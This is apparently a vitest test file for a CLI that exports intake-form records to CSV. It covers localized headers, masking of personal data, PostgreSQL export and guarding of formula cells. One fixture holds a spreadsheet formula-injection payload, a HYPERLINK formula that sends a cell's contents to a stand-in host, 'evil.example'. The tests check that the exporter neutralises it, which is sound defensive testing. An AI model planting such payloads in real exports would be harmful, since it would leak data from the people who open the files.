import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import type pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseForm, type IntakeRecord } from '@intake/core';
import { csvCells, csvHeader, csvLine, exportCsv, guardCell, isPersonNameField } from '../src/export-csv.js';
import { postgresStore } from '../src/postgres-store.js';
import { createTestSchema, databaseUrl, dropTestSchema, testPool } from './postgres-support.js';
import { contactRecord, crmLead, crmLeadRecord, crmLeadValues, makeRecord } from './support.js';

// The built bin, as `intake-export` runs once installed (`pnpm build` comes before the tests).
const cli = fileURLToPath(new URL('../dist/export-cli.js', import.meta.url));
const formPath = fileURLToPath(new URL('../../core/presets/crm-lead.json', import.meta.url));

function run(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [cli, ...args], { maxBuffer: 16 << 20 }, (error, stdout, stderr) => {
      resolve({ code: error ? Number(error.code) : 0, stdout, stderr });
    });
  });
}

/** Rows of CSV text as Excel would read them (csv-parse, RFC 4180), after checking BOM and CRLF. */
function rowsOf(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  expect(text.endsWith('\r\n')).toBe(true);
  // Rows end with CRLF; a line break inside a quoted cell is the value's own (a textarea's \n).
  expect(/(?<!\r)\n/.test(text.replace(/"(?:[^"]|"")*"/g, '')), 'every row ends with CRLF').toBe(false);
  return parse(text, { bom: true, record_delimiter: '\r\n', relax_column_count: false }) as string[][];
}

function column(rows: string[][], label: string): string[] {
  const index = rows[0]!.indexOf(label);
  expect(index, `column ${label} in ${rows[0]!.join('|')}`).toBeGreaterThanOrEqual(0);
  return rows.slice(1).map((row) => row[index]!);
}

let directory = '';
let jsonlPath = '';
let records: IntakeRecord[] = [];

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'intake-export-'));
  jsonlPath = join(directory, 'records.jsonl');
  const plain = await crmLeadRecord();
  const hostile = await makeRecord(crmLead, {
    ...crmLeadValues,
    company: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    contactName: 'Jane Doe',
    phone: '+1 415 555 2671',
    email: 'jane.doe@example.com',
    isDecisionMaker: false,
    decisionMaker: '@SUM(1+1)',
    interests: ['demo'],
    notes: '-2+3, "quoted"',
  });
  records = [plain, hostile];
  const other = await contactRecord();
  await writeFile(jsonlPath, `${JSON.stringify(plain)}\nnot a record\n${JSON.stringify(other)}\n${JSON.stringify(hostile)}\n`);
});
afterAll(async () => {
  if (directory) await rm(directory, { recursive: true, force: true });
});

describe('intake-export (built bin) on a JSON-lines file', () => {
  it('writes UTF-8 CSV with BOM and CRLF, labelled in English, options and booleans as labels', async () => {
    const result = await run(jsonlPath, '--form', formPath, '--locale', 'en');
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toBe('intake-export: skipped 1 line(s) that are not records: 2\n');
    const rows = rowsOf(result.stdout);
    expect(rows).toHaveLength(3); // header + the two crm-lead records; the contact record is another form's
    expect(rows[0]!.slice(0, 3)).toEqual(['Record ID', 'Submitted at', 'Company name']);
    expect(rows[0]!.slice(-3)).toEqual(['Sales rep', 'Tags', 'Consents']);
    expect(rows[0]).toHaveLength(2 + crmLead.fields.length + 2);
    expect(column(rows, 'Record ID')).toEqual(records.map((record) => record.id));
    expect(column(rows, 'Submitted at')).toEqual(records.map((record) => record.submittedAt));
    expect(column(rows, 'Industry')).toEqual(['Manufacture of computers, communication and other electronic equipment', 'Manufacture of computers, communication and other electronic equipment']);
    expect(column(rows, 'Company address')).toEqual(['上海市 上海市 浦东新区', '上海市 上海市 浦东新区']);
    expect(column(rows, 'Interests')).toEqual(['Product demo; Pricing and quote', 'Product demo']);
    expect(column(rows, 'The contact is a decision maker')).toEqual(['Yes', 'No']);
    expect(column(rows, 'Expected number of users')).toEqual(['50', '50']);
    expect(column(rows, 'Notes')).toEqual([records[0]!.data['notes'], "'-2+3, \"quoted\""]);
    expect(column(rows, 'Tags')[0]).toBe(records[0]!.tags.join('; '));
    expect(column(rows, 'Consents')[0]).toMatch(/^I would like to receive product news.* \(2026-01\) 2026-11-23T08:15:00\.000Z; I have read and agree/);
  });

  it('guards formula cells with a leading apostrophe but keeps E.164 phones readable', async () => {
    const rows = rowsOf((await run(jsonlPath, '--form', formPath, '--locale', 'en')).stdout);
    expect(column(rows, 'Company name')).toEqual(['上海示例科技有限公司', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`]);
    expect(column(rows, 'Decision maker')).toEqual(['', "'@SUM(1+1)"]);
    expect(column(rows, 'Mobile number')).toEqual(['+8613912345678', '+14155552671']);
  });

  it('labels columns, options and yes/no in Chinese with --locale zh-CN, or prints codes with --codes', async () => {
    const zh = rowsOf((await run(jsonlPath, '--form', formPath, '--locale', 'zh-CN')).stdout);
    expect(zh[0]!.slice(0, 4)).toEqual(['记录编号', '提交时间', '公司名称', '公司官网']);
    expect(zh[0]!.slice(-2)).toEqual(['标签', '同意记录']);
    expect(column(zh, '所属行业')).toEqual(['计算机、通信和其他电子设备制造业', '计算机、通信和其他电子设备制造业']);
    expect(column(zh, '公司所在地区')).toEqual(['上海市 上海市 浦东新区', '上海市 上海市 浦东新区']);
    expect(column(zh, '感兴趣的服务')).toEqual(['产品演示; 报价方案', '产品演示']);
    expect(column(zh, '该联系人是采购决策人')).toEqual(['是', '否']);
    // The form's locale (zh-CN) is the default.
    expect((await run(jsonlPath, '--form', formPath)).stdout).toBe((await run(jsonlPath, '--form', formPath, '--locale', 'zh-CN')).stdout);

    const codes = rowsOf((await run(jsonlPath, '--form', formPath, '--locale', 'en', '--codes')).stdout);
    expect(column(codes, 'Industry')).toEqual(['39', '39']);
    expect(column(codes, 'Company address')).toEqual(['310115', '310115']);
    expect(column(codes, 'Interests')).toEqual(['demo; pricing', 'demo']);
    expect(column(codes, 'Company size')).toEqual(['200-999', '200-999']);
  });

  it('masks phones, names and emails with --mask', async () => {
    const rows = rowsOf((await run(jsonlPath, '--form', formPath, '--locale', 'zh-CN', '--mask')).stdout);
    expect(column(rows, '手机号码')).toEqual(['139****5678', '415****671']);
    expect(column(rows, '联系人姓名')).toEqual(['王*', 'J*']);
    expect(column(rows, '工作邮箱')).toEqual(['w***@example.com', 'j***@example.com']);
    expect(column(rows, '公司名称')[0]).toBe('上海示例科技有限公司'); // a company is not a person
    expect(rows.flat().join()).not.toMatch(/13912345678|王伟|Jane Doe|wang\.wei@/i);
  });

  it('exits 2 on bad usage and 1 on an unreadable source', async () => {
    expect((await run(jsonlPath)).code).toBe(2);
    expect((await run(jsonlPath, '--form', formPath, '--table', 'x')).code).toBe(2);
    const missing = await run(join(directory, 'missing.jsonl'), '--form', formPath);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toMatch(/ENOENT/);
  });
});

describe('intake-export on PostgreSQL', () => {
  let pool: pg.Pool;
  let schema = '';
  beforeAll(async () => {
    pool = await testPool(2);
    schema = await createTestSchema(pool, 'intake_export_test');
  });
  afterAll(async () => {
    if (pool) {
      if (schema) await dropTestSchema(pool, schema);
      await pool.end();
    }
  });

  it('writes the same CSV from the store as from the file, in submittedAt order', async () => {
    const store = postgresStore({ pool, schema, table: 'exported' });
    // Stored in the opposite order: the export orders by submittedAt.
    const later = { ...records[0]!, submittedAt: '2026-11-23T09:00:00.000Z' };
    await store.put(later);
    await store.put(records[1]!);
    await store.put(await contactRecord());
    const url = databaseUrl;
    const result = await run(url, '--form', formPath, '--schema', schema, '--table', 'exported', '--locale', 'en', '--mask');
    expect(result.code, result.stderr).toBe(0);
    const rows = rowsOf(result.stdout);
    expect(column(rows, 'Record ID')).toEqual([records[1]!.id, later.id]);
    expect(column(rows, 'Submitted at')).toEqual([records[1]!.submittedAt, '2026-11-23T09:00:00.000Z']);
    expect(column(rows, 'Mobile number')).toEqual(['415****671', '139****5678']);
    expect(column(rows, 'Industry')).toEqual(['Manufacture of computers, communication and other electronic equipment', 'Manufacture of computers, communication and other electronic equipment']);
    expect(column(rows, 'Company address')).toEqual(['上海市 上海市 浦东新区', '上海市 上海市 浦东新区']);
    const bad = await run(url, '--form', formPath, '--table', 'bad-name');
    expect(bad.code).toBe(1);
    expect(bad.stderr).toMatch(/plain SQL identifier/);
  });
});

describe('the CSV writer', () => {
  it('quotes per RFC 4180 and ends lines with CRLF', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'x\ny', ''])).toBe('a,"b,c","say ""hi""","x\ny",\r\n');
  });

  it('guards cells starting with = + - @ tab or CR, but not E.164 phones', () => {
    for (const cell of ['=1+1', '+1+1', '-1', '@A1', '\t=1', '\r=1', '+86 139', '+861391234567890123']) expect(guardCell(cell)).toBe(`'${cell}`);
    for (const cell of ['+8613912345678', '+14155552671', 'plain', '1-2', '']) expect(guardCell(cell)).toBe(cell);
  });

  it('prints a region value as its names, or its code with codes', async () => {
    const parsed = parseForm({ id: 'r', fields: [{ type: 'hidden', name: 'region', label: { en: 'Region', 'zh-CN': '地区' } }] });
    if (!parsed.ok) throw new Error('form');
    const record = { ...(await contactRecord()), form: { id: 'r' }, data: { region: { code: '440305', province: '广东省', city: '深圳市', district: '南山区' } } } as unknown as IntakeRecord;
    expect(csvHeader(parsed.form, { locale: 'zh-CN' })[2]).toBe('地区');
    expect(csvCells(parsed.form, record)[2]).toBe('广东省 深圳市 南山区');
    expect(csvCells(parsed.form, record, { codes: true })[2]).toBe('440305');
    let text = '';
    for await (const chunk of exportCsv(parsed.form, [record, await contactRecord()])) text += chunk;
    expect(rowsOf(text)).toHaveLength(2);
  });

  it('finds name fields by autocomplete, else by name', () => {
    const field = (extra: object) => ({ type: 'text', name: 'x', ...extra }) as never;
    expect(isPersonNameField(field({ autocomplete: 'name' }))).toBe(true);
    expect(isPersonNameField(field({ autocomplete: 'section-a shipping family-name' }))).toBe(true);
    expect(isPersonNameField(field({ name: 'contactName' }))).toBe(true);
    expect(isPersonNameField(field({ name: 'name', autocomplete: 'organization' }))).toBe(false);
    expect(isPersonNameField(field({ name: 'companyName' }))).toBe(false);
    expect(isPersonNameField({ type: 'email', name: 'name' } as never)).toBe(false);
  });
});
